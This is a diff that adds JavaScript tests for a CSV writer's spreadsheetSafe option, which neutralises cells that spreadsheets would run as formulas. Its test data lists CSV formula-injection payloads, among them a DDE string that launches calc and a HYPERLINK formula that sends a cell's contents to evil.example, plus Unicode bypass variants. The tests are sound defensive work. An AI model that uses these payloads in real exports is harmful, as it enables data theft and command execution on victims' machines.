@@ -105,6 +105,47 @@ describe('toCsv', () => {
     expect(await write([{ '=n': -5 }], { spreadsheetSafe: true })).toBe("'=n\r\n-5\r\n");
   });
 
+  // What runs in one spreadsheet or another, and what must not be touched.
+  it.each([
+    ...['=1+1', "=cmd|' /C calc'!A0", '+1-1', '-2+3', '@SUM(1)', '==1', '=', '-', '+', '@'],
+    ...['=HYPERLINK("http://evil.example/?"&A1)', '=IMPORTXML("//x")', '=WEBSERVICE("//x")'],
+    ...['\t=1', '\r=1', '\n=1', '\r\n=1', ' =1', '   +1', '\v=1', '\f=1', '\t', '\r', '\n', '\tx'],
+    ...['\u00a0=1', '\u3000=1', '\u2003@x', '\ufeff=1', '\u2028=1', '\u200b=1', '\u00ad=1'],
+    ...['\0=1', '\x1b=1', '\u0085=1', '\u2060-1', '\u180e=1', '\u200e=1', ' \u200b \t=1'],
+    ...['＝1+1', '＋1', '－1', '＠x', '\u200b＝1', '﹦1', '﹢1', '﹣1', '﹫x', ' ＝1'],
+  ])('lets no spreadsheet run %j', async (value) => {
+    const [, cells] = parseCsv(await write([{ a: 1, value, z: 2 }], { spreadsheetSafe: true }));
+    expect(cells).toEqual(['1', `'${value}`, '2']);
+    const [, plain] = parseCsv(await write([{ a: 1, value, z: 2 }]));
+    expect(plain).toEqual(['1', value, '2']);
+  });
+
+  it.each([
+    'a=1',
+    'a',
+    "'=1",
+    '"=1',
+    '1-1',
+    '.=1',
+    '_=',
+    'é',
+    '😀=1',
+    '（=1',
+    '',
+    '−1',
+    '5',
+    '#=1',
+  ])('leaves %j as it is', async (value) => {
+    const [, cells] = parseCsv(await write([{ a: 1, value }], { spreadsheetSafe: true }));
+    expect(cells).toEqual(['1', value]);
+  });
+
+  it('quotes what other spreadsheets take for the end of a cell, if asked', async () => {
+    const items = [{ a: 'x;=1' }, { a: 'x\t=1' }];
+    expect(await write(items, { spreadsheetSafe: true })).toBe('a\r\n"x;=1"\r\n"x\t=1"\r\n');
+    expect(await write(items)).toBe('a\r\nx;=1\r\nx\t=1\r\n');
+  });
+
   it('round-trips any text', async () => {
     const cell = fc.string({
       unit: fc.constantFrom('a', '"', ',', '\r', '\n', ' ', '=', "'", 'é', '\0'),
